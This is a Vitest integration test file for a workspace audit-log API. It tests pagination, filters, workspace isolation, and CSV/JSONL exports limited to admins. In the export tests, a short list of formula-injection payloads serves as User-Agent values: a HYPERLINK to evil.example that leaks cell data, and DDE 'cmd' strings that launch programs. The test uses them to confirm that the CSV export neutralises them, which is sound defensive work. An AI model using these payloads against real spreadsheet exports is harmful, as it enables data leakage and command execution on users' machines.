// The workspace audit log over HTTP, on the real app and database: filters and keyset pagination,
// one chain per workspace, exports as attachments with spreadsheet formulas neutralised (the
// attacker-chosen User-Agent header is the classic way in), and every export recorded.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../test/support/app.js';
import { addMember, createPeople, type Person } from '../../test/support/accounts.js';

let t: TestApp;
let people: ReturnType<typeof createPeople>;
let admin: Person;
let owner: Person;
let ws: string;

interface EntryJson {
  id: number;
  workspaceId: string | null;
  seq: number;
  occurredAt: string;
  actorId: string | null;
  action: string;
  result: string;
  userAgent: string | null;
  details: Record<string, unknown>;
}

/** RFC 4180 rows (quoted cells may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

async function page(person: Person, query: string) {
  const response = await person.client.get(`/api/workspaces/${ws}/audit?${query}`);
  expect(response.statusCode, response.body).toBe(200);
  return response.json() as { entries: EntryJson[]; nextCursor: string | null };
}

const rename = (person: Person, name: string, userAgent?: string) =>
  person.client.request('PATCH', `/api/workspaces/${ws}`, { body: { name }, ...(userAgent === undefined ? {} : { headers: { 'user-agent': userAgent } }) });

beforeAll(async () => {
  t = await createTestApp();
  people = createPeople(t, 6);
  owner = await people.signUp('audit-owner@example.test');
  admin = await people.signUp('audit-admin@example.test');
  ws = owner.personalWorkspaceId;
  await addMember(t, owner, ws, admin, 'admin');
  for (let i = 1; i <= 5; i += 1) expect((await rename(i % 2 === 0 ? owner : admin, `Renamed ${i}`)).statusCode).toBe(200);
});
afterAll(async () => {
  await t?.close();
});

describe('listing', () => {
  it('pages newest first with a cursor, each entry once', async () => {
    const seen: EntryJson[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const next = await page(admin, `action=workspace.settings.changed&limit=2${cursor === null ? '' : `&cursor=${cursor}`}`);
      expect(next.entries.length).toBeLessThanOrEqual(2);
      seen.push(...next.entries);
      cursor = next.nextCursor;
      pages += 1;
    } while (cursor !== null);
    expect(pages).toBe(3);
    expect(seen.map((e) => e.details.changes)).toEqual([5, 4, 3, 2, 1].map((i) => ({ name: { from: i === 1 ? expect.any(String) : `Renamed ${i - 1}`, to: `Renamed ${i}` } })));
    const seqs = seen.map((e) => e.seq);
    expect([...seqs].sort((a, b) => b - a)).toEqual(seqs);
    expect(new Set(seqs).size).toBe(5);
  });

  it('filters by actor, result and time', async () => {
    const byOwner = await page(admin, `action=workspace.settings.changed&actorId=${owner.userId}`);
    expect(byOwner.entries.map((e) => e.details.changes)).toEqual([{ name: expect.objectContaining({ to: 'Renamed 4' }) }, { name: expect.objectContaining({ to: 'Renamed 2' }) }]);
    expect((await page(admin, 'result=denied')).entries.every((e) => e.result === 'denied')).toBe(true);
    const all = await page(admin, 'limit=200');
    const oldest = all.entries.at(-1) as EntryJson;
    const before = await page(admin, `to=${encodeURIComponent(oldest.occurredAt)}`);
    expect(before.entries).toEqual([]);
    const since = await page(admin, `from=${encodeURIComponent(new Date(Date.now() + 60_000).toISOString())}`);
    expect(since.entries).toEqual([]);
  });

  it('shows a workspace its own chain only', async () => {
    const stranger = await people.signUp('audit-stranger@example.test');
    const strangerWs = stranger.personalWorkspaceId;
    expect((await stranger.client.request('PATCH', `/api/workspaces/${strangerWs}`, { body: { name: 'Elsewhere' } })).statusCode).toBe(200);
    const mine = await page(admin, 'limit=200');
    expect(mine.entries.length).toBeGreaterThan(5);
    expect(mine.entries.every((e) => e.workspaceId === ws)).toBe(true);
    const theirs = (await stranger.client.get(`/api/workspaces/${strangerWs}/audit?limit=200`)).json() as { entries: EntryJson[] };
    expect(theirs.entries.every((e) => e.workspaceId === strangerWs)).toBe(true);
    expect(theirs.entries.some((e) => e.details.changes !== undefined)).toBe(true);
  });

  it('refuses malformed filters', async () => {
    for (const query of ['limit=0', 'limit=201', 'limit=ten', 'action=made.up', 'cursor=-1', 'from=yesterday', 'sort=asc', 'result=maybe']) {
      const response = await admin.client.get(`/api/workspaces/${ws}/audit?${query}`);
      expect(response.statusCode, query).toBe(400);
      expect(response.json().error.code).toBe('request.invalid');
    }
  });
});

describe('exporting', () => {
  const hostileAgents = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+cmd|' /C calc'!A0", '-2+3+cmd|\' /C notepad\'!A0', '@SUM(1+9)*cmd|\' /C calc\'!A0'];

  it('sends CSV as an attachment with every formula-looking cell neutralised, and records the export', async () => {
    for (const [i, agent] of hostileAgents.entries()) expect((await rename(admin, `Hostile ${i}`, agent)).statusCode).toBe(200);
    const response = await admin.client.get(`/api/workspaces/${ws}/audit/export?format=csv&action=workspace.settings.changed`);
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(new RegExp(`^attachment; filename="audit-${ws}-\\d{4}-\\d{2}-\\d{2}\\.csv"$`));
    expect(response.headers['cache-control']).toBe('no-store');

    const [header, ...rows] = parseCsv(response.body);
    expect(header).toContain('user_agent');
    expect(rows).toHaveLength(5 + hostileAgents.length);
    const agentColumn = (header as string[]).indexOf('user_agent');
    for (const agent of hostileAgents) expect(rows.map((r) => r[agentColumn])).toContain(`'${agent}`);
    for (const row of rows) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);

    const recorded = await page(admin, 'action=audit.exported');
    expect(recorded.entries[0]).toMatchObject({ actorId: admin.userId, result: 'success', details: { format: 'csv', entries: 5 + hostileAgents.length } });
  });

  it('sends JSONL with the workspace chain only, and records that export too', async () => {
    const response = await owner.client.get(`/api/workspaces/${ws}/audit/export?format=jsonl`);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('application/x-ndjson; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="audit-.+\.jsonl"$/);
    const lines = response.body.trimEnd().split('\n').map((line) => JSON.parse(line) as EntryJson);
    expect(lines.length).toBeGreaterThan(5);
    expect(lines.every((e) => e.workspaceId === ws)).toBe(true);
    // The agent is kept as sent in JSONL (it is data there, not a spreadsheet cell).
    expect(lines.some((e) => e.userAgent === hostileAgents[0])).toBe(true);
    const recorded = await page(owner, 'action=audit.exported');
    expect(recorded.entries[0]).toMatchObject({ actorId: owner.userId, details: { format: 'jsonl' } });
  });

  it('is for admins and owners only, and a refused export is not recorded as one', async () => {
    const analyst = await people.signUp('audit-analyst@example.test');
    await addMember(t, owner, ws, analyst, 'analyst');
    const before = (await page(admin, 'action=audit.exported')).entries.length;
    for (const url of [`/api/workspaces/${ws}/audit`, `/api/workspaces/${ws}/audit/export?format=csv`]) {
      const response = await analyst.client.get(url);
      expect(response.statusCode, url).toBe(403);
    }
    expect((await page(admin, 'action=audit.exported')).entries.length).toBe(before);
  });
});
